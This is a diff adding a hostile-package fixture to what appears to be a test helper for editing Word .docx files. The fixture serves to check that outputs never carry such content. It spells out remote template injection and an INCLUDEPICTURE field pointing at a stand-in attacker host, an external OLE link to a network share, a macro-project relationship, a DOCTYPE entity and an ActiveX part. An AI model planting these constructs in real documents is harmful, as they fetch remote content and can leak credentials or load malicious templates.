@@ -156,3 +156,32 @@ def edit_docx(source: Path, target: Path, edit: Edit) -> Path:
         for name in parts.keys() - set(names):
             zout.writestr(name, parts[name].encode("utf-8"))
     return target
+
+
+#: what a returned package may carry that no output of mou should
+PAYLOAD: Edit = _both(
+    _add_part("word/vbaProject.bin", "not really a macro project"),
+    _relationship("rIdHostileVba", "vbaProject", "vbaProject.bin"),
+    _add_part(
+        "word/_rels/settings.xml.rels",
+        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
+        'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" Type="http://'
+        'schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        'Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
+    ),
+    _replace("</w:settings>", '<w:attachedTemplate r:id="rIdT"/></w:settings>', SETTINGS),
+    _replace(
+        "</Relationships>",
+        '<Relationship Id="rIdHostileLink" Type="http://schemas.openxmlformats.org/'
+        'officeDocument/2006/relationships/oleObject" Target="file://server/share/x.xlsx" '
+        'TargetMode="External"/></Relationships>',
+        RELS,
+    ),
+    _not_as(
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
+        ' INCLUDEPICTURE "https://attacker.example/p.png" \\d </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r>' + _run(NOT)
+    ),
+    _add_part("customXml/item7.xml", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'),
+    _add_part("word/activeX/activeX1.xml", "<ax/>"),
+)
